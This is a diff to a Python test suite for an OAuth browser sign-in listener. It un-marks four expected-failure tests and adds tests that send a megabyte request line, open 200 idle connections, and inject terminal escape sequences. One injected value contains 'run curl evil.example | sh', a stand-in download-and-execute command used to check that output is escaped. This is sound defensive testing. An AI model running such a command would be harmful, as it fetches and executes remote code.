@@ -92,7 +92,6 @@ def get(port: int, target: str, host: str = "127.0.0.1") -> tuple[int, str]:
     return int(head.split()[1]), body.decode("utf-8", "replace")
 
 
-@pytest.mark.xfail(strict=True, reason="not fixed yet")
 def test_an_idle_connection_does_not_block_the_browser_sign_in(
     world: World,
     oauth_server: OAuthServer,
@@ -113,7 +112,6 @@ def test_an_idle_connection_does_not_block_the_browser_sign_in(
             idle.close()
 
 
-@pytest.mark.xfail(strict=True, reason="not fixed yet")
 def test_ctrl_c_ends_the_browser_sign_in_at_once_despite_an_idle_connection(
     world: World,
     oauth_server: OAuthServer,
@@ -135,7 +133,6 @@ def test_ctrl_c_ends_the_browser_sign_in_at_once_despite_an_idle_connection(
         assert "Traceback" not in err
 
 
-@pytest.mark.xfail(strict=True, reason="not fixed yet")
 def test_a_request_with_another_state_cannot_end_the_sign_in(
     world: World,
     oauth_server: OAuthServer,
@@ -158,7 +155,6 @@ def test_a_request_with_another_state_cannot_end_the_sign_in(
     assert keyring_sign_in(world, "alice")["account"] == "alice"
 
 
-@pytest.mark.xfail(strict=True, reason="not fixed yet")
 def test_a_localhost_redirect_is_listened_for_on_both_families(
     world: World,
     oauth_server: OAuthServer,
@@ -182,6 +178,59 @@ def test_a_localhost_redirect_is_listened_for_on_both_families(
         assert result.callback_status == 200, result
         _, err = process.communicate(timeout=30)
         assert process.returncode == 0, err
+
+
+def test_a_megabyte_request_line_and_a_crowd_of_idle_connections_do_not_block_it(
+    world: World,
+    oauth_server: OAuthServer,
+    oauth_smtp_server: SmtpServer,
+    tls_material: TlsMaterial,
+) -> None:
+    """Beyond the items: a request line of 1 MB, then more idle connections than any
+    file-descriptor budget would allow to be kept; the real redirect still counts."""
+    oauth_config(world, oauth_server, oauth_smtp_server, tls_material, "alice", provider="google")
+    with browser_sign_in(world) as (process, url, port):
+        with socket.create_connection(("127.0.0.1", port), timeout=10) as huge:
+            try:
+                huge.sendall(b"GET /?code=" + b"x" * (1 << 20) + b" HTTP/1.1\r\n\r\n")
+                answer = huge.recv(65536)
+            except OSError:  # reset: the listener stopped reading, as it should
+                answer = b""
+            assert answer == b"" or re.match(rb"HTTP/1\.[01] 4", answer), answer[:80]
+        crowd = [half_request(port) for _ in range(200)]
+        time.sleep(0.5)
+        result = oauth_server.authorize(url)
+        assert result.callback_status == 200, result
+        out, err = process.communicate(timeout=30)
+        assert process.returncode == 0, err
+        assert "Signed in" in out
+        for idle in crowd:
+            idle.close()
+
+
+def test_the_browser_s_error_with_escape_sequences_reaches_the_terminal_escaped(
+    world: World,
+    oauth_server: OAuthServer,
+    oauth_smtp_server: SmtpServer,
+    tls_material: TlsMaterial,
+) -> None:
+    """Beyond the items: an error redirect with this sign-in's state (as a hostile
+    provider sends it) is one sentence, its words escaped."""
+    oauth_config(world, oauth_server, oauth_smtp_server, tls_material, "alice", provider="google")
+    with browser_sign_in(world) as (process, url, port):
+        state = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(url).query))["state"]
+        hostile = urllib.parse.urlencode(
+            {"error": "access_denied\x1b]0;owned\x07", "state": state,
+             "error_description": "\x1b[2J\x1b[31mrun curl evil.example | sh\r\nsecond"}
+        )  # fmt: skip
+        status, _ = get(port, f"/?{hostile}")
+        assert status == 200
+        out, err = process.communicate(timeout=30)
+    assert process.returncode == 5, err
+    assert "\x1b" not in out + err and "\r" not in err
+    [sentence] = [line for line in err.splitlines() if line.startswith("feedback-mailer:")]
+    assert "did not succeed" in sentence and "nothing was stored" in sentence
+    assert len(err.strip().splitlines()) == 1, err
 
 
 # --- token helpers (items 4, 5, 12) -------------------------------------------------
